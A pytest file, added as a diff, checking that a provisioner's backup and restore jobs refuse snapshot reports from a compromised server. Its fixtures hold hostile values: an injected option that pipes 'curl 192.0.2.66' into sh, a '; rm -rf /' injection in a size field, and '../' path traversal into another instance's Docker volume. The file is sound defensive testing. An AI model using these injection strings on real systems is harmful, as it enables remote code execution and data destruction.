@@ -1,0 +1,227 @@
+"""What a server reports after a backup is untrusted: a compromised server's report fails the job, is not
+kept, and never reaches a command line or a path on another server (restore into a copy, move, drill).
+
+The playbook runs are scripted here (the runner adapter is replaced); the playbooks' own handling of
+the same values on a real server is in tests/playbooks/test_backup_playbooks.py.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+
+from provisioner.backups import steps
+from provisioner.backups.repository import repository_for
+from provisioner.backups.service import request_restore
+from provisioner.config import Settings
+from provisioner.db import transaction
+from provisioner.instances.credentials import store_secrets
+from provisioner.jobs.service import create_job
+from provisioner.jobs.states import JobKind
+from provisioner.models import Alert, Backup, Instance, Job
+from provisioner.runner.spec import EventSink, RunnerEvent, RunOutcome, RunSpec
+from provisioner.timeutil import utcnow
+from provisioner.worker.backup_jobs import execute_backup_job
+from provisioner.worker.execution import DatabaseSink
+from tests.support import factories
+from tests.support.running import running_blog, unused_backup_target
+
+HOSTILE_ID = "--password-command=sh -c 'curl 192.0.2.66 | sh'"  # fits the column: 64 characters
+HOSTILE_PATHS = {"db": "/../../var/lib/docker/volumes/prv-victim-db/_data", "content": "/.."}
+
+
+def _report(snapshot_id: object, **summary: object) -> dict[str, object]:
+    counts = {"total_bytes_processed": 1000, "data_added": 10, "snapshot_id": "1a2b3c4d"} | summary
+    # Also what the playbook reported before paths were derived: a server may still print them.
+    return {"snapshot_id": snapshot_id, "summary": counts, "paths": HOSTILE_PATHS}
+
+
+class ScriptedRuns:
+    """Stands in for the runner adapter: answers each playbook as a (compromised) server would."""
+
+    def __init__(self, report: dict[str, object]) -> None:
+        self.report = report
+        self.ran: list[RunSpec] = []
+
+    def __call__(self, spec: RunSpec, sink: EventSink, *, work_root: Path) -> RunOutcome:
+        self.ran.append(spec)
+        if spec.playbook == "backup.yml":
+            shown = "ok: [server] => " + json.dumps({"msg": self.report})
+            sink.emit(RunnerEvent(1, utcnow(), "s1", steps.REPORT_TASK, "ok", "ok: Report the backup", shown))
+        return RunOutcome(status="successful", rc=0, error=None)
+
+
+@pytest.fixture
+def settings(db_url: str, tmp_path: Path) -> Settings:
+    key = tmp_path / "id_ed25519"
+    key.write_text("not a real key: no run leaves this machine\n")
+    return Settings(data_dir=tmp_path, database_url=db_url, ssh_key_path=key)
+
+
+def _scripted(monkeypatch: pytest.MonkeyPatch, report: dict[str, object]) -> ScriptedRuns:
+    runs = ScriptedRuns(report)
+    monkeypatch.setattr(steps, "run_playbook", runs)
+    return runs
+
+
+def _execute(settings: Settings, job_id: str, kind: JobKind) -> None:
+    sink = DatabaseSink(settings.resolved_database_url, job_id)
+    execute_backup_job(settings, factories.CATALOG, job_id, kind, sink)
+
+
+def _backup_job(settings: Settings) -> tuple[str, str]:
+    with transaction(settings.resolved_database_url) as session:
+        unused_backup_target(session, settings)
+        blog = running_blog(session, factories.tenant(session), factories.server(session))
+        job = create_job(session, instance=blog, kind=JobKind.BACKUP)
+        job.status = "running"
+        return blog.id, job.id
+
+
+@pytest.mark.parametrize(
+    "report",
+    [
+        _report(HOSTILE_ID),
+        _report("1a2b3c4d"),  # a short id: another server's restic could resolve it to anything
+        _report("A" * 64),
+        _report(secrets.token_hex(32) + "\n"),
+        _report(secrets.token_hex(32), total_bytes_processed="1000; rm -rf /"),
+        _report(secrets.token_hex(32), data_added=True),
+        _report(secrets.token_hex(32), data_added=-1),
+        {"snapshot_id": secrets.token_hex(32)},
+        ["not", "a", "report"],
+    ],
+    ids=[
+        "option",
+        "short",
+        "upper",
+        "newline",
+        "size-text",
+        "size-bool",
+        "size-negative",
+        "no-summary",
+        "list",
+    ],
+)
+def test_a_report_of_the_wrong_shape_fails_the_backup_loudly_and_nothing_of_it_is_kept(
+    settings: Settings, monkeypatch: pytest.MonkeyPatch, report: dict[str, object]
+) -> None:
+    _scripted(monkeypatch, report)
+    blog_id, job_id = _backup_job(settings)
+    _execute(settings, job_id, JobKind.BACKUP)
+    with transaction(settings.resolved_database_url) as session:
+        job = session.get_one(Job, job_id)
+        assert job.status == "failed"
+        assert job.error is not None
+        assert job.error.startswith("the backup failed: the server's report was refused (")
+        assert "nothing of it was kept" in job.error
+        assert HOSTILE_ID not in job.error
+        backup = session.scalars(select(Backup)).one()
+        assert (backup.status, backup.snapshot_id, backup.paths) == ("failed", None, {})
+        assert (backup.size_bytes, backup.added_bytes) == (None, None)
+        assert session.get_one(Instance, blog_id).state == "running"
+        alert = session.scalars(select(Alert)).one()
+        assert (alert.kind, alert.status) == ("backup_failed", "open")
+
+
+def test_a_good_report_keeps_the_full_id_and_paths_derived_from_our_names(
+    settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    snapshot_id = secrets.token_hex(32)
+    _scripted(monkeypatch, _report(snapshot_id))
+    blog_id, job_id = _backup_job(settings)
+    _execute(settings, job_id, JobKind.BACKUP)
+    with transaction(settings.resolved_database_url) as session:
+        assert session.get_one(Job, job_id).status == "succeeded"
+        backup = session.scalars(select(Backup)).one()
+        assert (backup.status, backup.snapshot_id) == ("succeeded", snapshot_id)
+        assert (backup.size_bytes, backup.added_bytes) == (1000, 10)
+        # The reported paths are ignored: each volume lies where restic was told to put it.
+        assert backup.paths == {"db": f"/prv-{blog_id}-db/_data", "content": f"/prv-{blog_id}-content/_data"}
+
+
+def _stored_backup(settings: Settings, **values: object) -> tuple[str, str]:
+    """A backup row as an earlier version (which kept what the server printed) may have stored it."""
+    with transaction(settings.resolved_database_url) as session:
+        unused_backup_target(session, settings)
+        owner = factories.tenant(session)
+        blog = running_blog(session, owner, factories.server(session))
+        store_secrets(settings, blog, factories.CATALOG.get("wordpress"))  # the copy takes them over
+        repository = repository_for(session, settings, tenant_id=owner.id)
+        good = {"db": f"/prv-{blog.id}-db/_data", "content": f"/prv-{blog.id}-content/_data"}
+        backup = Backup(
+            instance_id=blog.id,
+            repository_id=repository.id,
+            status="succeeded",
+            version=blog.version,
+            **({"snapshot_id": secrets.token_hex(32), "paths": good} | values),
+        )
+        session.add(backup)
+        session.flush()
+        return blog.id, backup.id
+
+
+def _restore_into_a_copy(settings: Settings, blog_id: str, backup_id: str) -> str:
+    with transaction(settings.resolved_database_url) as session:
+        job = request_restore(
+            session, actor=factories.OPERATOR, catalog=factories.CATALOG, instance_id=blog_id,
+            backup_id=backup_id, into="new", name="copy", settings=settings,
+        ).job  # fmt: skip
+        assert job is not None  # an operator's copy starts at once
+        job.status = "running"
+        return job.id
+
+
+@pytest.mark.parametrize(
+    "stored",
+    [
+        {"snapshot_id": HOSTILE_ID},
+        {"paths": HOSTILE_PATHS},
+        {"paths": {"db": "/var/lib/docker/volumes/prv-victim-db/_data", "content": "/x"}},
+    ],
+    ids=["snapshot-option", "dot-dot", "another-instance"],
+)
+def test_a_stored_report_of_the_wrong_shape_never_reaches_another_server(
+    settings: Settings, monkeypatch: pytest.MonkeyPatch, stored: dict[str, object]
+) -> None:
+    runs = _scripted(monkeypatch, {})
+    blog_id, backup_id = _stored_backup(settings, **stored)
+    job_id = _restore_into_a_copy(settings, blog_id, backup_id)
+    _execute(settings, job_id, JobKind.RESTORE)
+    with transaction(settings.resolved_database_url) as session:
+        job = session.get_one(Job, job_id)
+        assert job.status == "failed"
+        assert job.error is not None
+        assert job.error.startswith(f"the backup {backup_id} cannot be restored: the recorded")
+    # The copy was deployed; nothing of the backup ran anywhere.
+    assert [spec.playbook for spec in runs.ran] == ["deploy.yml"]
+
+
+@pytest.mark.parametrize("recorded_before", [False, True], ids=["derived", "recorded-before"])
+def test_a_restore_into_a_copy_gets_a_checked_snapshot_id_and_paths_from_our_names(
+    settings: Settings, monkeypatch: pytest.MonkeyPatch, recorded_before: bool
+) -> None:
+    runs = _scripted(monkeypatch, {})
+    blog_id, backup_id = _stored_backup(settings)
+    # Recorded before paths were derived: restic 0.14's short id, absolute paths in Debian's Docker folder.
+    root = "/var/lib/docker/volumes" if recorded_before else ""
+    with transaction(settings.resolved_database_url) as session:
+        row = session.get_one(Backup, backup_id)
+        if recorded_before:
+            row.snapshot_id = "1a2b3c4d"
+            row.paths = {name: f"{root}/prv-{blog_id}-{name}/_data" for name in ("db", "content")}
+        snapshot_id = row.snapshot_id
+    job_id = _restore_into_a_copy(settings, blog_id, backup_id)
+    _execute(settings, job_id, JobKind.RESTORE)
+    with transaction(settings.resolved_database_url) as session:
+        assert session.get_one(Job, job_id).status == "succeeded"
+        copy_id = session.get_one(Job, job_id).instance_id
+    restore = next(spec for spec in runs.ran if spec.playbook == "restore.yml")
+    assert restore.variables["snapshot"] == snapshot_id
+    assert {v["name"]: (v["docker"], v["in_snapshot"]) for v in restore.variables["volumes"]} == {
+        name: (f"prv-{copy_id}-{name}", f"{root}/prv-{blog_id}-{name}/_data") for name in ("db", "content")
+    }
